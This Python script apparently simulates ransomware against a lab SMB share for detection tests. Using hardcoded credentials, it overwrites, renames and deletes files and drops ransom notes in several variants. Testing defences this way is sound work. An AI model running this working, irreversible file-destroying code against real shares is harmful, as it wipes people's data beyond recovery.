# SPDX-License-Identifier: GPL-3.0-or-later
"""What ransomware does to a share, in the ways it does it; for tests against a server of our own in a private network.

    encryptor.py SERVER smb1|smb2|smb3 VARIANT SECONDS     share data, prints the files it has done with
"""
import os
import sys
import time

from impacket.smb import SMB_DIALECT
from impacket.smb3structs import FILE_CREATE, FILE_OPEN, SMB2_DIALECT_21
from impacket.smbconnection import SMBConnection

server, protocol, variant, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
dialect = {'smb1': SMB_DIALECT, 'smb2': SMB2_DIALECT_21, 'smb3': None}[protocol]
c = SMBConnection('*SMBSERVER', server, preferredDialect=dialect, timeout=3)
c.login('root', 'Passw0rd!')
tree = c.connectTree('data')
RW, RO, NEW = 0x0012019f | 0x00010000, 0x00120089, 0x0012019f


def listed(path):
    return [f for f in c.listPath('data', path + '\\*') if f.get_longname() not in ('.', '..')]


def read(fid, size):
    data = b''
    while len(data) < size:
        part = c.readFile(tree, fid, len(data), min(60000, size - len(data)))
        if not part:
            break
        data += part
    return data


def write(fid, data):
    for at in range(0, len(data), 60000):
        c.writeFile(tree, fid, data[at:at + 60000], at)


def replace(name, size, share=100):
    """the first per cents of the file, read and written over"""
    fid = c.openFile(tree, name, desiredAccess=RW, shareMode=7, creationDisposition=FILE_OPEN)
    n = len(read(fid, max(1, size * share // 100)))
    write(fid, os.urandom(n))
    c.closeFile(tree, fid)


def successor(name, size):
    """another file, with a key of 256 bytes at its end, then away with the old one"""
    fid = c.openFile(tree, name, desiredAccess=RO, shareMode=7, creationDisposition=FILE_OPEN)
    n = len(read(fid, size))
    c.closeFile(tree, fid)
    fid = c.openFile(tree, name + '.lockd', desiredAccess=NEW, shareMode=7, creationDisposition=FILE_CREATE)
    write(fid, os.urandom(n + 256))
    c.closeFile(tree, fid)
    c.deleteFile('data', name)


def note(folder):
    fid = c.openFile(tree, folder + '\\READ_ME.txt', desiredAccess=NEW, shareMode=7, creationDisposition=FILE_CREATE)
    write(fid, b'Your files are encrypted. ' * 30)
    c.closeFile(tree, fid)


def one(name, size):
    if variant == 'copydel':
        successor(name, size)
    elif variant == 'renamefirst':
        c.rename('data', name, name + '.lockd')
        replace(name + '.lockd', size)
    else:
        replace(name, size, 5 if variant == 'partial' else 100)
        if variant not in ('inplace', 'notes'):
            c.rename('data', name, name + '.lockd')


folders = [f.get_longname() for f in listed('')]
files = [(d + '\\' + f.get_longname(), f.get_filesize()) for d in folders for f in listed(d)]
if variant == 'notes':  # every folder has its note before the first file is touched, and then the files go in turn
    files.sort(key=lambda f: f[0].split('\\')[1])
print('ready', flush=True)
sys.stdin.readline()
end, done = time.time() + seconds, 0
try:
    if variant == 'notes':
        for d in folders:
            note(d)
    for name, size in files:
        if time.time() > end:
            break
        one(name, size)
        done += 1
        print(done, flush=True)
        if variant == 'slow':
            time.sleep(1)
except Exception as e:  # cut off
    print('stopped: %s' % str(e)[:60], flush=True)
